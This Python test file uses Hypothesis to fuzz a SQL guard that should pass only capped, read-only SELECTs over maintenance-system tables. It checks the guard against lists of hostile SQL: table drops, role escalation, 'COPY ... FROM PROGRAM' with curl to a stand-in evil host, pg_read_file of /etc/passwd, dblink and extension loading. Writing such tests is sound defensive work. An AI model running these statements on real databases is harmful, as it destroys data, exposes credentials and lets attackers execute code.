"""Whatever SQL arrives, the guard refuses it with `UnsafeSql` or returns one capped, read-only SELECT over
the CMMS tables, and what it returns only reads.

Hypothesis writes the SQL: analytic SELECTs over the real tables (with odd limits, unions, CTEs and
subqueries), the same with writes, DDL, PRAGMA, ATTACH, chained statements, writes in CTEs, locking
clauses, catalog tables and functions with side effects spliced in, disguised by case, whitespace and
comments, plus unicode, very long input and garbage; in both dialects. Every accepted statement is checked
by re-parsing what the guard returns (not by asking the guard again), then run by the project's executor
on a copy of the demo SQLite database (and on a PostgreSQL copy when the server is up): the database must
answer or refuse it cleanly, and its content must not change. String literals and aliases must mean the
same after the guard renders them as before.
"""

from __future__ import annotations

import asyncio
import hashlib
import shutil
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import asyncpg
import pytest
import sqlglot
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlglot import exp

from maintbot.cmms.demo_data import write_demo_database
from maintbot.cmms.models import known_columns
from maintbot.errors import QueryFailed, QueryTimeout, UnsafeSql
from maintbot.sql.executor import ReadOnlyExecutor
from maintbot.sql.guard import MAX_SQL_CHARS, SqlGuard
from maintbot.sql.types import Dialect, GuardedSql

ROW_CAP = 50
TIMEOUT_S = 0.25
KNOWN = known_columns()
TABLES = sorted(KNOWN)
DIALECTS: tuple[Dialect, ...] = ("sqlite", "postgres")
EXAMPLES = 250
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Nodes that write, change the schema or the session, or lock rows: none may be in an accepted statement.
WRITE_NODES: tuple[type[exp.Expr], ...] = (
    exp.Insert, exp.Update, exp.Delete, exp.Merge, exp.Create, exp.Drop, exp.Alter, exp.TruncateTable,
    exp.Pragma, exp.Attach, exp.Detach, exp.Copy, exp.Set, exp.Transaction, exp.Commit, exp.Rollback,
    exp.Grant, exp.Revoke, exp.Into, exp.Lock, exp.Returning, exp.Command, exp.Use, exp.Execute,
    exp.Analyze, exp.LoadData, exp.Kill, exp.Install, exp.Declare, exp.Refresh, exp.Comment,
)  # fmt: skip

WRITE_STATEMENTS = [
    "DELETE FROM work_orders",
    "DELETE FROM sites WHERE id = 1",
    "UPDATE equipment SET status = 'decommissioned'",
    "INSERT INTO sites (id, code, name, city, country) VALUES (99, 'X', 'X', 'X', 'X')",
    "INSERT INTO sites SELECT * FROM sites",
    "INSERT OR REPLACE INTO sites (id) VALUES (1)",
    "REPLACE INTO sites (id) VALUES (1)",
    "UPSERT INTO sites (id) VALUES (1)",
    "MERGE INTO equipment e USING sites s ON e.site_id = s.id WHEN MATCHED THEN DELETE",
    "TRUNCATE work_orders",
    "TRUNCATE TABLE work_orders CASCADE",
    "CREATE TABLE stolen AS SELECT * FROM equipment",
    "CREATE TEMP TABLE scratch (x INT)",
    "CREATE VIEW v AS SELECT 1",
    "CREATE INDEX i ON equipment (tag)",
    "CREATE TRIGGER t AFTER INSERT ON sites BEGIN DELETE FROM sites; END",
    "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
    "CREATE EXTENSION dblink",
    "DROP TABLE equipment",
    "DROP TABLE IF EXISTS sensor_readings",
    "ALTER TABLE equipment ADD COLUMN x INT",
    "ALTER TABLE equipment RENAME TO e2",
    "ALTER ROLE postgres SUPERUSER",
    "PRAGMA query_only = OFF",
    "PRAGMA writable_schema = ON",
    "PRAGMA journal_mode = DELETE",
    "ATTACH DATABASE '/tmp/evil.db' AS evil",
    "ATTACH '/tmp/evil.db' AS evil",
    "DETACH DATABASE main",
    "VACUUM",
    "VACUUM INTO '/tmp/copy.db'",
    "REINDEX",
    "ANALYZE",
    "ANALYZE equipment",
    "COPY equipment TO '/tmp/equipment.csv'",
    "COPY equipment FROM PROGRAM 'curl http://evil.example'",
    "COPY (SELECT * FROM equipment) TO STDOUT",
    "SET statement_timeout = 0",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "SET TRANSACTION READ WRITE",
    "SET ROLE postgres",
    "RESET ALL",
    "BEGIN",
    "BEGIN IMMEDIATE",
    "COMMIT",
    "ROLLBACK",
    "SAVEPOINT s",
    "RELEASE SAVEPOINT s",
    "END",
    "GRANT ALL ON equipment TO public",
    "REVOKE SELECT ON equipment FROM public",
    "DO $$ BEGIN DELETE FROM equipment; END $$",
    "CALL refresh_everything()",
    "LISTEN channel",
    "NOTIFY channel, 'x'",
    "LOCK TABLE equipment IN ACCESS EXCLUSIVE MODE",
    "PREPARE p AS DELETE FROM equipment",
    "EXECUTE p",
    "DEALLOCATE ALL",
    "DISCARD ALL",
    "CHECKPOINT",
    "CLUSTER equipment",
    "REFRESH MATERIALIZED VIEW v",
    "COMMENT ON TABLE equipment IS 'x'",
    "SECURITY LABEL ON TABLE equipment IS 'x'",
    "EXPLAIN ANALYZE DELETE FROM equipment",
    "EXPLAIN SELECT 1",
    "SHOW ALL",
    "DESCRIBE equipment",
    "TABLE equipment",
    "VALUES (1)",
    "LOAD 'auto_explain'",
    "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public",
]

# Calls that read files, sleep, reach out, change settings, write, or make huge values.
DANGEROUS_CALLS = [
    "pg_sleep(10)",
    "pg_sleep_for('10 seconds')",
    "pg_read_file('/etc/passwd')",
    "pg_read_binary_file('/etc/passwd')",
    "pg_ls_dir('.')",
    "pg_stat_file('/etc/passwd')",
    "lo_import('/etc/passwd')",
    "lo_export(1234, '/tmp/x')",
    "lo_create(0)",
    "lo_unlink(1)",
    "dblink('host=evil.example', 'SELECT 1')",
    "dblink_exec('host=evil.example', 'DROP TABLE sites')",
    "set_config('default_transaction_read_only', 'off', false)",
    "current_setting('data_directory')",
    "pg_terminate_backend(1)",
    "pg_cancel_backend(1)",
    "pg_reload_conf()",
    "pg_advisory_lock(1)",
    "pg_notify('c', 'x')",
    "nextval('work_orders_id_seq')",
    "setval('work_orders_id_seq', 1)",
    "txid_current()",
    "pg_backend_pid()",
    "query_to_xml('DELETE FROM sites', true, true, '')",
    "pg_logical_emit_message(true, 'x', 'y')",
    "version()",
    "inet_server_addr()",
    "generate_series(1, 1000000000)",
    "repeat('x', 1000000000)",
    "lpad('x', 1000000000)",
    "load_extension('/tmp/evil.so')",
    "readfile('/etc/passwd')",
    "writefile('/tmp/x', 'y')",
    "fts3_tokenizer('simple')",
    "randomblob(1000000000)",
    "zeroblob(1000000000)",
    "printf('%.*c', 1000000000, 'x')",
    "format('%.*c', 1000000000, 'x')",
    "sqlite_version()",
    "sqlite_compileoption_used('ENABLE_LOAD_EXTENSION')",
    "json_each('[1]')",
    "char(65)",
    "hex(randomblob(8))",
    "changes()",
    "last_insert_rowid()",
    "unlikely(1)",
]
DANGEROUS_NAMES = frozenset(call.split("(", 1)[0].lower() for call in DANGEROUS_CALLS)

CATALOGS = [
    "sqlite_master", "sqlite_schema", "sqlite_temp_master", "main.sqlite_master", "temp.sqlite_master",
    "pragma_table_info('equipment')", "pg_catalog.pg_shadow", "pg_shadow", "pg_authid", "pg_user",
    "pg_tables", "pg_settings", "pg_stat_activity", "information_schema.tables", "public.equipment",
    "main.equipment", "customers", "users",
]  # fmt: skip

# Where a call is placed in an otherwise ordinary query ({call}, {t} a table, {c} one of its columns).
CALL_PLACES = [
    "SELECT {call} FROM {t}",
    "SELECT {call}",
    "SELECT {c} FROM {t} WHERE {call} IS NOT NULL",
    "SELECT {c} FROM {t} ORDER BY {call}",
    "SELECT COALESCE({call}, 1) FROM {t}",
    "SELECT {c} FROM {t} LIMIT {call}",
    "SELECT {c} FROM {t} LIMIT 5 OFFSET {call}",
    "WITH x AS (SELECT {call} AS v) SELECT v FROM x",
    "SELECT (SELECT {call}) FROM {t}",
    "SELECT {c} FROM {t} GROUP BY {c} HAVING COUNT({call}) > 0",
    "SELECT CASE WHEN {c} IS NULL THEN {call} ELSE 0 END FROM {t}",
    "SELECT * FROM {call}",
    "SELECT {c} FROM {t} JOIN {call} AS f ON 1 = 1",
    "SELECT {c} FROM {t} WHERE {c} IN (SELECT {call})",
    "SELECT {c} FROM {t} WHERE EXISTS (SELECT {call})",
    "SELECT {c} FROM {t} UNION ALL SELECT {call}",
    "SELECT CAST({call} AS TEXT) FROM {t}",
    "SELECT LOWER({call}) FROM {t}",
]
CATALOG_PLACES = [
    "SELECT * FROM {cat}",
    "SELECT {c} FROM {t} WHERE {c} IN (SELECT 1 FROM {cat})",
    "SELECT {c} FROM {t} UNION SELECT NULL FROM {cat}",
    "SELECT (SELECT COUNT(*) FROM {cat}) FROM {t}",
    "WITH x AS (SELECT * FROM {cat}) SELECT * FROM x",
    "SELECT {c} FROM {t} JOIN {cat} AS k ON 1 = 1",
    "SELECT {c} FROM {t}, {cat}",
]
WRITE_PLACES = [
    "{w}",
    "SELECT {c} FROM {t}{sep}{w}",
    "{w}{sep}SELECT {c} FROM {t}",
    "WITH x AS ({w} RETURNING *) SELECT * FROM x",
    "WITH x AS ({w} RETURNING id) SELECT COUNT(*) FROM x",
    "SELECT * FROM ({w} RETURNING *) AS x",
    "SELECT {c} FROM {t} WHERE {c} IN ({w} RETURNING id)",
    "EXPLAIN {w}",
    "WITH x AS (SELECT 1) {w}",
]
LOCK_PLACES = [
    "SELECT {c} FROM {t} FOR UPDATE",
    "SELECT {c} FROM {t} FOR SHARE",
    "SELECT {c} FROM {t} FOR NO KEY UPDATE SKIP LOCKED",
    "SELECT {c} FROM {t} FOR UPDATE NOWAIT",
    "SELECT * INTO stolen FROM {t}",
    "SELECT {c} INTO TEMP stolen FROM {t}",
    "SELECT {c} FROM {t} LIMIT 1 FOR KEY SHARE",
]
SEPARATORS = [";", "; ", ";\n", " ; -- done\n", "/* */;/* */", ";;", "\n;\n", "; /* ; */ "]
# Between tokens, these keep the statement's meaning (a comment is whitespace to SQL).
SPACES = [" ", "  ", "\t", "\n", "\r\n", "\x0c", "/**/", " /* ; DROP TABLE sites; */ ", " -- ; DELETE\n"]
# Characters that are not SQL whitespace, or are invisible: they may change what the text means.
ODD_CHARACTERS = ["\u00a0", "\u2028", "\u3000", "\u200b", "\ufeff", "\x0b", "\x00", "\u0301", "ｓ", "；"]
SQL_WORDS = (
    "SELECT FROM WHERE WITH AS ( ) , ; * 1 'x' -- /* */ DELETE DROP INSERT UPDATE PRAGMA ATTACH UNION "
    "ALL LIMIT OFFSET ORDER BY GROUP HAVING JOIN ON RETURNING INTO FOR VALUES CAST NULL || = < > AND OR "
    "NOT IN EXISTS CASE WHEN THEN END equipment sites work_orders id tag pg_sleep(1) load_extension('x') "
    'sqlite_master $$ " ` [ ] :: ? :x $1 RECURSIVE LATERAL TABLE'
).split()

LIMITS = [
    "", " LIMIT 0", " LIMIT 1", " LIMIT 50", " LIMIT 51", " LIMIT 1000", " LIMIT 99999999999999999999",
    " LIMIT " + "9" * 5000, " LIMIT -1", " LIMIT NULL", " LIMIT ALL", " LIMIT 5.5", " LIMIT '7'",
    " LIMIT 1 + 1", " LIMIT (SELECT COUNT(*) FROM sites)", " LIMIT 10 OFFSET 5", " LIMIT 5, 10",
    " OFFSET 3", " LIMIT 2 * 1000", " FETCH FIRST 5 ROWS ONLY", " FETCH FIRST 500 ROWS ONLY",
    " LIMIT 3 OFFSET (SELECT COUNT(*) FROM sites)", " LIMIT (SELECT MAX(id) FROM sensor_readings)",
]  # fmt: skip
CONDITIONS = ["{} = {v}", "{} <> {v}", "{} IS NULL", "{} LIKE '%a%'", "{} BETWEEN {v} AND {v}"]


def _column(draw: st.DrawFn, table: str) -> str:
    return draw(st.sampled_from(sorted(KNOWN[table])))


def _expression(draw: st.DrawFn, dialect: Dialect, column: str) -> str:
    """A column, bare or inside an allowed function or operator."""
    forms = [
        "{}", "COUNT({})", "COUNT(DISTINCT {})", "SUM({})", "AVG({})", "MIN({})", "MAX({})", "LOWER({})",
        "UPPER({})", "LENGTH({})", "COALESCE({}, NULL)", "ABS({})", "ROUND({}, 2)", "NULLIF({}, 0)",
        "CAST({} AS TEXT)", "CAST({} AS INTEGER)", "TRIM({})", "{} || 'x'", "{} + 1", "-{}",
        "CASE WHEN {} IS NULL THEN 0 ELSE 1 END", "{} IS NULL", "ROW_NUMBER() OVER (ORDER BY {})",
        "LAG({}) OVER (ORDER BY {})",
    ]  # fmt: skip
    if dialect == "sqlite":
        forms += ["strftime('%Y', {})", "date({})", "julianday({})", "SUBSTR({}, 1, 3)", "iif({}, 1, 0)"]
    else:
        forms += ["date_trunc('month', {})", "EXTRACT(YEAR FROM {})", "to_char({}, 'YYYY')", "{}::text"]
    return draw(st.sampled_from(forms)).replace("{}", column)


def _literal(draw: st.DrawFn) -> str:
    return draw(
        st.one_of(
            st.integers(-(10**12), 10**12).map(str),
            st.text(max_size=12).map(lambda text: "'" + text.replace("'", "''") + "'"),
            st.sampled_from(["NULL", "TRUE", "1.5", "1e308", "'2024-01-01'", "''"]),
        )
    )


@st.composite
def selects(draw: st.DrawFn, dialect: Dialect, depth: int = 0) -> str:
    """A SELECT over the CMMS tables, mostly valid, in `dialect`."""
    table = draw(st.sampled_from(TABLES))
    alias = f"t{depth}"
    columns = draw(st.lists(st.sampled_from(sorted(KNOWN[table])), min_size=1, max_size=4))
    exprs = [_expression(draw, dialect, f"{alias}.{column}") for column in columns]
    select = "SELECT " + ("DISTINCT " if draw(st.booleans()) else "") + ", ".join(exprs)
    source = f" FROM {table} AS {alias}" if draw(st.booleans()) else f" FROM {table} {alias}"
    if draw(st.booleans()):
        other = draw(st.sampled_from(TABLES))
        kind = draw(st.sampled_from(["JOIN", "LEFT JOIN", "INNER JOIN"]))
        source += f" {kind} {other} AS j{depth} ON j{depth}.{_column(draw, other)} = {alias}.{columns[0]}"
    where = ""
    if draw(st.booleans()):
        column = f"{alias}.{draw(st.sampled_from(columns))}"
        condition = draw(st.sampled_from(CONDITIONS))
        where = " WHERE " + condition.replace("{}", column).replace("{v}", _literal(draw))
        if depth < 1 and draw(st.booleans()):
            where += f" AND {column} IN ({draw(selects(dialect, depth + 1))})"
    tail = ""
    if draw(st.booleans()):
        tail += f" ORDER BY {draw(st.integers(1, len(exprs)))}"
    tail += draw(st.sampled_from(LIMITS))
    sql = select + source + where + tail
    if depth == 0 and draw(st.integers(0, 4)) == 0:
        inner = draw(selects(dialect, depth + 1))
        sql = f"WITH c AS ({inner}) SELECT * FROM c" + draw(st.sampled_from(LIMITS))
    if depth == 0 and draw(st.integers(0, 5)) == 0:
        first = f"SELECT {alias}.{columns[0]} FROM {table} AS {alias}"
        other = draw(st.sampled_from(TABLES))
        sql = f"{first} UNION ALL SELECT u.{_column(draw, other)} FROM {other} AS u" + draw(
            st.sampled_from(LIMITS)
        )
    return sql


@st.composite
def hostile(draw: st.DrawFn, dialect: Dialect) -> str:
    """A statement that writes, locks, reads outside the CMMS tables or calls a dangerous function."""
    table = draw(st.sampled_from(TABLES))
    values = {"t": table, "c": _column(draw, table)}
    kind = draw(st.sampled_from(["call", "catalog", "write", "lock"]))
    if kind == "call":
        template, values["call"] = draw(st.sampled_from(CALL_PLACES)), draw(st.sampled_from(DANGEROUS_CALLS))
    elif kind == "catalog":
        template, values["cat"] = draw(st.sampled_from(CATALOG_PLACES)), draw(st.sampled_from(CATALOGS))
    elif kind == "write":
        template = draw(st.sampled_from(WRITE_PLACES))
        values["w"] = draw(st.sampled_from(WRITE_STATEMENTS))
        values["sep"] = draw(st.sampled_from(SEPARATORS))
    else:
        template = draw(st.sampled_from(LOCK_PLACES))
    return template.format(**values)


@st.composite
def disguised(draw: st.DrawFn, statements: st.SearchStrategy[str]) -> str:
    """The same statement with letters' case flipped and spaces turned into other whitespace or comments."""
    sql = draw(statements)
    rng = draw(st.randoms(use_true_random=False))
    words = sql.split(" ")
    words = ["".join(ch.swapcase() if rng.random() < 0.3 else ch for ch in word) for word in words]
    return "".join(word + (rng.choice(SPACES) if i < len(words) - 1 else "") for i, word in enumerate(words))


@st.composite
def mangled(draw: st.DrawFn, dialect: Dialect) -> str:
    """Anything: garbage, word soup, odd characters spliced into a query, huge input."""
    base = draw(st.one_of(selects(dialect), hostile(dialect)))
    rng = draw(st.randoms(use_true_random=False))
    kind = draw(st.sampled_from(["text", "soup", "splice", "odd", "long", "truncate"]))
    if kind == "text":
        return draw(st.text(max_size=300))
    if kind == "soup":
        return " ".join(draw(st.lists(st.sampled_from(SQL_WORDS), max_size=30)))
    if kind == "splice":
        at = rng.randrange(len(base) + 1)
        piece = draw(st.sampled_from([*SQL_WORDS, *SEPARATORS, *DANGEROUS_CALLS, *WRITE_STATEMENTS]))
        return base[:at] + " " + piece + " " + base[at:]
    if kind == "odd":
        chars = list(base)
        for _ in range(rng.randint(1, 4)):
            chars.insert(rng.randrange(len(chars) + 1), rng.choice(ODD_CHARACTERS))
        return "".join(chars)
    if kind == "long":
        size = rng.choice([MAX_SQL_CHARS - len(base) - 10, MAX_SQL_CHARS, 5 * MAX_SQL_CHARS])
        filler = rng.choice([" ", "/* x */", "-- x\n", " AND 1 = 1"])
        return base + filler * max(1, size // len(filler))
    return base[: rng.randrange(len(base) + 1)]


def _outer_limit(root: exp.Expr) -> int:
    limit = root.args.get("limit")
    assert limit is not None, "no row limit on the outer query"
    count = limit.args.get("count") if isinstance(limit, exp.Fetch) else limit.expression
    assert isinstance(count, exp.Literal), f"the row limit is not a number: {limit}"
    assert count.name.isdigit(), f"the row limit is not a number: {limit}"
    return int(count.name)


def assert_only_reads(guarded: GuardedSql, dialect: Dialect) -> None:
    """What the guard returned is one capped read-only SELECT over the CMMS tables, by sqlglot's reading."""
    statements = sqlglot.parse(guarded.sql, read=dialect)
    assert len(statements) == 1, guarded.sql
    root = statements[0]
    assert isinstance(root, exp.Select | exp.Union | exp.Intersect | exp.Except), guarded.sql
    writes = [node for node in root.walk() if isinstance(node, WRITE_NODES)]
    assert not writes, (guarded.sql, writes)
    ctes = {cte.alias_or_name.lower() for cte in root.find_all(exp.CTE)}
    for table in root.find_all(exp.Table):
        assert isinstance(table.this, exp.Identifier), guarded.sql
        assert not table.args.get("db"), guarded.sql
        assert not table.args.get("catalog"), guarded.sql
        assert table.name.lower() in KNOWN or table.name.lower() in ctes, (guarded.sql, table.name)
    for function in root.find_all(exp.Func):
        name = function.name if isinstance(function, exp.Anonymous) else function.sql_name()
        assert name.lower() not in DANGEROUS_NAMES, (guarded.sql, name)
    assert _outer_limit(root) <= ROW_CAP + 1, guarded.sql
    assert guarded.tables <= KNOWN.keys()


def check(guards: dict[Dialect, SqlGuard], dialect: Dialect, sql: str) -> GuardedSql | None:
    """The guard's verdict: None when refused (only ever with `UnsafeSql`), else the checked statement."""
    try:
        guarded = guards[dialect].check(sql)
    except UnsafeSql:
        return None
    assert_only_reads(guarded, dialect)
    # What runs is what was checked: the statement as it will run passes the guard, reading the same tables.
    assert guards[dialect].check(guarded.sql).tables == guarded.tables
    return guarded


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def guards() -> dict[Dialect, SqlGuard]:
    return {dialect: SqlGuard(known_columns=KNOWN, dialect=dialect, row_cap=ROW_CAP) for dialect in DIALECTS}


@pytest.fixture(scope="module")
def runner() -> Iterator[asyncio.Runner]:
    """One event loop for the module: hypothesis calls the tests synchronously, the executor is async."""
    with asyncio.Runner() as runner:
        yield runner


@pytest.fixture(scope="module")
def demo_copy(demo_database: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    copy = tmp_path_factory.mktemp("guard-fuzz") / "cmms.sqlite3"
    shutil.copyfile(demo_database, copy)
    return copy


@pytest.fixture(scope="module")
def sqlite_executor(demo_copy: Path, runner: asyncio.Runner) -> Iterator[ReadOnlyExecutor]:
    executor = runner.run(
        ReadOnlyExecutor.connect(
            url=f"sqlite+aiosqlite:///{demo_copy}", statement_timeout_s=TIMEOUT_S, row_cap=ROW_CAP
        )
    )
    before = _sha256(demo_copy)
    yield executor
    runner.run(executor.close())
    assert _sha256(demo_copy) == before, "the demo database changed"
    assert [path.name for path in demo_copy.parent.iterdir()] == [demo_copy.name]


def run_on(runner: asyncio.Runner, executor: ReadOnlyExecutor, guarded: GuardedSql) -> None:
    """Run an accepted statement: the database answers with at most the cap, or refuses it cleanly."""
    try:
        result = runner.run(executor.run(guarded))
    except (QueryFailed, QueryTimeout):
        return
    assert result.row_count <= ROW_CAP


@FUZZ
@given(data=st.data())
def test_queries_over_the_cmms_tables_are_capped_read_only_selects(
    guards: dict[Dialect, SqlGuard],
    runner: asyncio.Runner,
    sqlite_executor: ReadOnlyExecutor,
    data: st.DataObject,
) -> None:
    dialect = data.draw(st.sampled_from(DIALECTS))
    sql = data.draw(st.one_of(selects(dialect), disguised(selects(dialect))))

    guarded = check(guards, dialect, sql)

    if guarded is not None and dialect == "sqlite":
        run_on(runner, sqlite_executor, guarded)


@FUZZ
@given(data=st.data())
def test_writes_catalogs_locks_and_dangerous_functions_are_refused(
    guards: dict[Dialect, SqlGuard], data: st.DataObject
) -> None:
    dialect = data.draw(st.sampled_from(DIALECTS))
    sql = data.draw(st.one_of(hostile(dialect), disguised(hostile(dialect))))

    assert check(guards, dialect, sql) is None, sql


@FUZZ
@given(data=st.data())
def test_garbage_and_mangled_sql_is_refused_or_only_reads(
    guards: dict[Dialect, SqlGuard],
    runner: asyncio.Runner,
    sqlite_executor: ReadOnlyExecutor,
    data: st.DataObject,
) -> None:
    dialect = data.draw(st.sampled_from(DIALECTS))
    sql = data.draw(mangled(dialect))

    guarded = check(guards, dialect, sql)

    if guarded is not None and dialect == "sqlite":
        run_on(runner, sqlite_executor, guarded)


# String literals and aliases as the guard renders them mean what they meant: the same value comes back.
texts = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=40)


def _literal_query(value: str, alias: str, spacing: str) -> str:
    """`SELECT 'value' AS "alias" FROM sites LIMIT 1`, quoted the standard way."""
    literal = "'" + value.replace("'", "''") + "'"
    name = '"' + alias.replace('"', '""') + '"'
    return f"SELECT{spacing}{literal} AS {name}{spacing}FROM sites LIMIT 1"


@FUZZ
@given(value=texts, alias=texts.filter(str.strip), spacing=st.sampled_from(SPACES))
def test_literals_and_aliases_survive_the_guard_unchanged(
    guards: dict[Dialect, SqlGuard],
    runner: asyncio.Runner,
    sqlite_executor: ReadOnlyExecutor,
    value: str,
    alias: str,
    spacing: str,
) -> None:
    sql = _literal_query(value, alias, spacing)
    guarded = check(guards, "sqlite", sql)
    assert guarded is not None, sql

    result = runner.run(sqlite_executor.run(guarded))

    assert result.rows == [[value]]
    assert result.columns == [alias]


# PostgreSQL ----------------------------------------------------------------------------------------------

PG_SCALE = 0.05


@pytest.fixture(scope="module")
async def pg_url(postgres_dsn: str) -> AsyncIterator[str]:
    """A throwaway database with the demo CMMS rows on the local server, dropped afterwards."""
    name = f"maintbot_guard_fuzz_{uuid.uuid4().hex[:12]}"
    admin = await asyncpg.connect(postgres_dsn, timeout=5)
    try:
        await admin.execute(f'CREATE DATABASE "{name}"')
        url = f"postgresql+asyncpg://{postgres_dsn.split('://', 1)[1].rsplit('/', 1)[0]}/{name}"
        await write_demo_database(url, seed=42, scale=PG_SCALE)
        yield url
    finally:
        await admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        await admin.close()


async def _pg_fingerprint(url: str) -> dict[str, str]:
    """Each CMMS table's rows, hashed in a stable order."""
    connection = await asyncpg.connect(url.replace("+asyncpg", ""))
    try:
        digest = "SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) FROM {} AS t"
        return {table: await connection.fetchval(digest.format(table)) for table in TABLES}
    finally:
        await connection.close()


@pytest.fixture(scope="module")
def pg_executor(pg_url: str, runner: asyncio.Runner) -> Iterator[ReadOnlyExecutor]:
    before = runner.run(_pg_fingerprint(pg_url))
    executor = runner.run(
        ReadOnlyExecutor.connect(url=pg_url, statement_timeout_s=TIMEOUT_S, row_cap=ROW_CAP)
    )
    yield executor
    runner.run(executor.close())
    assert runner.run(_pg_fingerprint(pg_url)) == before, "the PostgreSQL data changed"


@pytest.mark.postgres
@FUZZ
@given(data=st.data())
def test_on_postgres_what_the_guard_accepts_only_reads(
    guards: dict[Dialect, SqlGuard],
    runner: asyncio.Runner,
    pg_executor: ReadOnlyExecutor,
    data: st.DataObject,
) -> None:
    sql = data.draw(st.one_of(selects("postgres"), disguised(selects("postgres")), mangled("postgres")))

    guarded = check(guards, "postgres", sql)

    if guarded is not None:
        run_on(runner, pg_executor, guarded)


@pytest.mark.postgres
@FUZZ
@given(value=texts, alias=texts.filter(str.strip), spacing=st.sampled_from(SPACES))
def test_on_postgres_literals_and_aliases_survive_the_guard_unchanged(
    guards: dict[Dialect, SqlGuard],
    runner: asyncio.Runner,
    pg_executor: ReadOnlyExecutor,
    value: str,
    alias: str,
    spacing: str,
) -> None:
    sql = _literal_query(value, alias, spacing)
    guarded = check(guards, "postgres", sql)
    assert guarded is not None, sql

    result = runner.run(pg_executor.run(guarded))

    assert result.rows == [[value]]
    # PostgreSQL cuts identifiers at 63 bytes, at a character boundary.
    assert result.columns == [alias.encode()[:63].decode(errors="ignore")]
